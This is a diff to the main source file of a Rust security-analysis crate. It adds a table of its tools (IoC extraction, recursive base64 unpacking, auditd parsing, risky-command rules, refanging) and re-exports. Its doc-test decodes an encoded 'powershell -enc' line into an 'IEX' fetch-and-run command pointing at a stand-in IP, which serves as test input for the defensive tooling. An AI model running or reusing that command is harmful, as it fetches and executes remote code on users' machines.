@@ -1,15 +1,41 @@
 //! Security analysis tools: the transforms an analyst applies to raw text and events.
 //!
-//! Today this holds indicator clean-up; decoding, extraction, process trees and
-//! analysis models join it (see ARCHITECTURE.md).
+//! | module | what it does | string API | DataFrame API |
+//! |---|---|---|---|
+//! | IoC extraction | IPs, URLs, domains, e-mail, hashes, paths; defanged forms | [`IocExtractor::extract`] | [`IocExtractor::extract_df`] |
+//! | base64 unpacking | recursive base64, gzip/zip/tar members, file types, hashes | [`B64Unpacker::unpack`] | [`B64Unpacker::unpack_df`] |
+//! | auditd | Linux audit records grouped into events, hex decoded | [`parse_auditd`] | [`auditd_from_df`], [`AuditLog::to_df`] |
+//! | command lines | risky-command rules, command bursts | [`CmdRules::check`] | [`CmdRules::risky_cmd_line`], [`cmd_speed`] |
+//! | refanging | undo `hxxp`, `[.]`, `[at]` | [`refang`] | – |
+//!
+//! Nothing here keeps global state: two calls with the same input give the same output.
 //!
 //! ```
-//! assert_eq!(sectools::refang("hxxps://evil[.]example(.)com/a"), "https://evil.example.com/a");
-//! assert_eq!(sectools::refang("bob[at]contoso[dot]com"), "bob@contoso.com");
+//! use sectools::{B64Unpacker, IocExtractor, IocType};
+//!
+//! let line = "powershell -enc SQBFAFgAIAAoAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACkA";
+//! let decoded = B64Unpacker::default().unpack(line);
+//! let text = decoded.items[0].decoded_string.as_deref().unwrap_or_default();
+//! assert_eq!(text, "IEX (http://198.51.100.7/a)");
+//! let iocs = IocExtractor::new().extract(text);
+//! assert!(iocs[&IocType::Url].contains("http://198.51.100.7/a"));
 //! ```
 
+pub use auditd::{
+    AuditEvent, AuditIssue, AuditLog, AuditRecord, auditd_from_df, parse_auditd, read_auditd_file,
+};
+pub use b64::{B64Limits, B64Note, B64Result, B64Unpacker, DecodedItem, Encoding};
+pub use cmd_line::{CmdHit, CmdRule, CmdRules, MatchedIn, cmd_speed};
 pub use error::SectoolsError;
+pub use ioc::{Ioc, IocExtractor, IocType, classify_ip, validate};
+pub use polars;
 pub use refang::refang;
 
+mod auditd;
+mod b64;
+mod cmd_line;
 mod error;
+mod frame;
+mod ioc;
+pub mod jsonl;
 mod refang;
